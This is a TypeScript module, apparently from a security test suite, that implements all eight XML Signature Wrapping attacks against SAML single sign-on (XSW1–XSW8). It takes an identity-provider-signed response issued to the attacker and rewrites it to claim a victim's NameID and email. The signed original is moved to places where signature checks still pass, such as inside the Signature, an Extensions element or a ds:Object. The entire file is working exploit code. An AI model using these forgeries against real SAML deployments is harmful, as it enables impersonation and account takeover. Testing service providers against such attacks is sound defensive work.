import { childrenOf, decode, encode, firstDescendant, NS_ASSERTION, NS_DSIG, NS_PROTOCOL, parseXml, serialize } from './saml-idp.js';

/**
 * The eight XML Signature Wrapping attacks of Somorovsky et al., "On Breaking
 * SAML: Be Whoever You Want to Be" (USENIX Security 2012), in the shapes the
 * SAML Raider tool applies them (XSW1–2 against a signed Response, XSW3–8
 * against a signed Assertion). Each takes a response the IdP signed for the
 * attacker and makes a copy claiming to be `victim`, leaving the signed
 * original somewhere the signature still verifies.
 */
export interface Victim {
  nameId: string;
  email: string;
}

export type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';

export const XSW_DESCRIPTIONS: Record<XswVariant, string> = {
  XSW1: 'evil Response at the root (new ID); the signed original Response copied into its Signature',
  XSW2: 'evil Response at the root (new ID); the signed original Response copied as a sibling before its Signature',
  XSW3: 'evil Assertion (new ID, unsigned) inserted before the signed original',
  XSW4: 'evil Assertion (new ID, unsigned) wrapping the signed original as its child',
  XSW5: 'original Assertion edited in place, keeping its Signature (new ID); an unsigned copy of the original appended',
  XSW6: 'original Assertion edited in place, keeping its Signature (new ID); an unsigned copy of the original inside that Signature',
  XSW7: 'evil copy (same ID, unsigned) inside an Extensions element before the signed original',
  XSW8: 'original Assertion edited in place, keeping its Signature and ID; the unsigned original inside a ds:Object in that Signature',
};

function impersonate(element: Element, victim: Victim): void {
  const doc = element.ownerDocument;
  const nameId = firstDescendant(element, NS_ASSERTION, 'NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(doc.createTextNode(victim.nameId));
  const values = element.getElementsByTagNameNS(NS_ASSERTION, 'AttributeValue');
  for (let i = 0; i < values.length; i += 1) {
    const value = values.item(i);
    if (!value || !/@/.test(value.textContent ?? '')) continue;
    while (value.firstChild) value.removeChild(value.firstChild);
    value.appendChild(doc.createTextNode(victim.email));
  }
}

function removeOwnSignature(element: Element): void {
  for (const signature of childrenOf(element, NS_DSIG, 'Signature')) element.removeChild(signature);
}

function ownSignature(element: Element): Element {
  const signature = childrenOf(element, NS_DSIG, 'Signature')[0];
  if (!signature) throw new Error(`${element.localName} is not signed`);
  return signature;
}

export function applyXsw(variant: XswVariant, samlResponse: string, victim: Victim): string {
  const doc = parseXml(decode(samlResponse));
  const response = doc.documentElement;
  const assertion = childrenOf(response, NS_ASSERTION, 'Assertion')[0];
  if (!assertion) throw new Error('no assertion');
  switch (variant) {
    case 'XSW1':
    case 'XSW2': {
      const original = response.cloneNode(true) as Element;
      removeOwnSignature(original);
      const signature = ownSignature(response);
      impersonate(response, victim);
      if (variant === 'XSW1') signature.appendChild(original);
      else response.insertBefore(original, signature);
      response.setAttribute('ID', '_evil_response_ID');
      break;
    }
    case 'XSW3':
    case 'XSW4': {
      const evil = assertion.cloneNode(true) as Element;
      impersonate(evil, victim);
      evil.setAttribute('ID', '_evil_assertion_ID');
      removeOwnSignature(evil);
      if (variant === 'XSW3') response.insertBefore(evil, assertion);
      else {
        response.appendChild(evil);
        evil.appendChild(assertion);
      }
      break;
    }
    case 'XSW5':
    case 'XSW6':
    case 'XSW8': {
      const original = assertion.cloneNode(true) as Element;
      removeOwnSignature(original);
      const signature = ownSignature(assertion);
      impersonate(assertion, victim);
      if (variant === 'XSW5') response.appendChild(original);
      else if (variant === 'XSW6') signature.appendChild(original);
      else {
        const object = doc.createElementNS(NS_DSIG, 'ds:Object');
        signature.appendChild(object);
        object.appendChild(original);
      }
      if (variant !== 'XSW8') assertion.setAttribute('ID', '_evil_assertion_ID');
      break;
    }
    case 'XSW7': {
      const extensions = doc.createElementNS(NS_PROTOCOL, 'samlp:Extensions');
      response.insertBefore(extensions, assertion);
      const evil = assertion.cloneNode(true) as Element;
      impersonate(evil, victim);
      removeOwnSignature(evil);
      extensions.appendChild(evil);
      break;
    }
  }
  return encode(serialize(doc));
}
